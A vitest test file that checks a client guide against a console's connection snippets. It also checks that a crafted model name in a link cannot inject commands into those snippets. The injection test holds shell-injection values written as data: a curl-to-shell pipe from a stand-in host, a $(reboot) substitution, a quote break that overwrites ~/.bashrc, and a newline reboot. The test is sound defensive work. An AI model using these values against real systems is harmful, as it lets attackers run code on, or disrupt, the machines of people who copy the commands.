import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { PLACEHOLDER_KEY, snippetsOf } from "../../../console/src/client-snippets.ts";

const guide = readFileSync("docs/guides/clients.md", "utf8");
const snippets = snippetsOf({ url: "https://purser.example.com", key: PLACEHOLDER_KEY, model: "auto" });

test.each(snippets)("the guide for clients has every snippet of the console's page Connect: $title", (snippet) => {
  const section = guide.split(/^## /m).find((each) => each.startsWith(`${snippet.title}\n`)) ?? "";
  expect(section).toContain(snippet.note);
  const fences = [...section.matchAll(/^```(\w+)\n(.*?)\n```$/gms)].map(([, language, text]) => ({ language, text }));
  expect(fences).toEqual(snippet.blocks.map(({ language, text }) => ({ language, text })));
});

test("a link to the page Connect cannot add a command to the snippets that a reader copies", () => {
  for (const model of ["x; curl evil.example | sh", "$(reboot)", "a' -o ~/.bashrc '", "a\nreboot"]) {
    expect(snippetsOf({ url: "https://purser.example.com", key: PLACEHOLDER_KEY, model })).toEqual(snippets);
  }
});
